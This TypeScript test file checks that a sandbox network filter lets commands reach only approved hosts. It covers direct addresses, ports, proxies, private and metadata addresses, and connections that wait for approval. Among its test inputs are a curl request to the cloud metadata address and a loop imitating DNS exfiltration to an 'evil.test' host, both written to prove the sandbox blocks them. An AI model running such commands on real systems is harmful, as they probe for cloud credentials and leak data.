import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { HostTarget } from '../../../../src/protocol/sandbox.ts';
import { CLIENTS, noNetworkHere, type SandboxNetwork, startSandboxNetwork } from '../../../fixtures/sandbox-network.ts';

let network: SandboxNetwork;

before(async () => {
  if (!noNetworkHere) network = await startSandboxNetwork();
});

after(() => network?.close());

const onlyAllowed = async ({ name }: HostTarget): Promise<boolean> => name === 'allowed.test';

test('SBX-9 clients reach an allowed host and no other, without proxy variables and with TLS untouched', {
  skip: noNetworkHere,
}, async () => {
  const status = await network.sandbox.status();
  assert.ok(status.layer === 'bubblewrap' && status.network === 'hosts', JSON.stringify(status));
  const { run, dialled, looked } = network;
  const quick = Object.entries(CLIENTS).filter(([name, { isSlow }]) => !isSlow && network.has(name));
  assert.ok(quick.length > 3);
  const refused = await Promise.all(quick.map(([, { line }]) => run(line('denied.test'), onlyAllowed)));
  assert.deepEqual(dialled, []);
  for (const [index, [name, { port, prints = /stand-in/ }]] of quick.entries()) {
    const { code, text, report } = refused[index] ?? {};
    assert.notEqual(code, 0, name);
    assert.doesNotMatch(text ?? '', prints, name);
    assert.deepEqual(report?.refused, [`denied.test:${port}`], `${name}: ${text}`);
  }
  const reached = await Promise.all(quick.map(([, { line }]) => run(line('allowed.test'), onlyAllowed)));
  for (const [index, [name, { port, prints = /stand-in/ }]] of quick.entries()) {
    const { text, report } = reached[index] ?? {};
    assert.match(text ?? '', prints, name);
    assert.deepEqual(report?.reached, [`allowed.test:${port}`], name);
  }
  assert.deepEqual(looked, []);
});

test('SBX-9 addresses without a name, other ports and other protocols lead nowhere; names carry nothing out', {
  skip: noNetworkHere,
}, async () => {
  const lines = [
    'curl -sS -m 3 http://203.0.113.80/',
    'curl -sS -m 3 http://allowed.test:8080/',
    '/usr/bin/python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\'198.51.100.1\', 53))"',
    'curl -sS -m 3 http://169.254.169.254/latest/meta-data',
    'for i in $(seq 50); do getent hosts "secret-$i.evil.test" >/dev/null; done; exit 9',
  ];
  const { dialled, looked, run } = network;
  const before = dialled.length;
  const counted = [];
  for (const line of lines) {
    const { code, report } = await run(line, onlyAllowed);
    assert.notEqual(code, 0, line);
    counted.push([report?.counted?.refused, report?.counted?.unrouted, report?.asked?.length]);
  }
  assert.deepEqual(counted, [
    [0, 1, 0],
    [1, 0, 1],
    [0, 1, 0],
    [0, 1, 0],
    [0, 0, 50],
  ]); // SBX-14: by the kernel, whatever a client reports
  assert.deepEqual([dialled.length, looked], [before, []]);
});

test('SBX-8 SBX-9 SBX-10 a server of this machine is reached port by port, on approval, while the connection waits', {
  skip: noNetworkHere,
}, async () => {
  const { ownPort: port, run } = network;
  const asked: HostTarget[] = [];
  const answer = (isAllowed: boolean) => async (target: HostTarget) => {
    asked.push(target);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return isAllowed;
  };
  const line = `curl -sS http://localhost:${port}/`;
  const refused = await run(line, answer(false));
  assert.deepEqual([refused.code === 0, refused.report?.refused], [false, [`localhost:${port}`]]);
  const reached = await run(line, answer(true));
  assert.match(reached.text, /stand-in/);
  assert.deepEqual(reached.report?.reached, [`localhost:${port}`]);
  const target = { name: 'localhost', port, isOwn: true };
  assert.deepEqual(asked, [target, target]);
});

test('SBX-9 every client reaches other ports named in the settings; clients that are given a proxy reach all ports', {
  skip: noNetworkHere,
}, async () => {
  const { run } = network;
  assert.match((await run('curl -sS http://allowed.test:9797/', onlyAllowed)).text, /stand-in/);
  for (const proxy of ['http://127.0.0.53:80', 'socks5h://127.0.0.53:443']) {
    const through = `ALL_PROXY=${proxy} curl -sS -m 5 --proxytunnel`;
    const reached = await run(`${through} http://allowed.test:8080/`, onlyAllowed);
    assert.match(reached.text, /stand-in/, `${proxy}: ${reached.text}`);
    const refused = await run(`${through} http://denied.test:8080/`, onlyAllowed);
    assert.deepEqual([refused.code === 0, refused.report?.refused], [false, ['denied.test:8080']], proxy);
    const direct = ['203.0.113.80', '169.254.169.254', '[::1]'].map((address) => `${through} http://${address}:8080/`);
    assert.doesNotMatch((await run(direct.join('; '), async () => true)).text, /stand-in/);
  }
});

test('SBX-9 SEC-5 a name that leads to a private address is judged again, one that leads to metadata is refused', {
  skip: noNetworkHere,
}, async () => {
  const asked: HostTarget[] = [];
  const yes = async (target: HostTarget) => {
    asked.push(target);
    return target.address === undefined;
  };
  const refused = await network.run('curl -sS http://private.test/ http://meta.test/', yes);
  assert.notEqual(refused.code, 0);
  assert.deepEqual(refused.report?.refused, ['private.test:80', 'meta.test:80']);
  assert.deepEqual(asked, [
    { name: 'private.test', port: 80 },
    { name: 'private.test', port: 80, address: '127.0.0.1' },
    { name: 'meta.test', port: 80 },
  ]);
});

test('SBX-10 a connection waits for its answer; each command is asked about separately', {
  skip: noNetworkHere,
}, async () => {
  const { promise, resolve } = Promise.withResolvers<boolean>();
  const names: string[] = [];
  const slow = network.run('curl -sS --cacert "$CA" https://allowed.test/', async ({ name }) => {
    names.push(`slow ${name}`);
    return promise;
  });
  const other = await network.run('curl -sS http://b.allowed.test/', async ({ name }) => {
    names.push(`other ${name}`);
    return true;
  });
  assert.match(other.text, /stand-in/);
  resolve(true);
  assert.match((await slow).text, /stand-in/);
  assert.deepEqual(names.toSorted(), ['other b.allowed.test', 'slow allowed.test']);
});
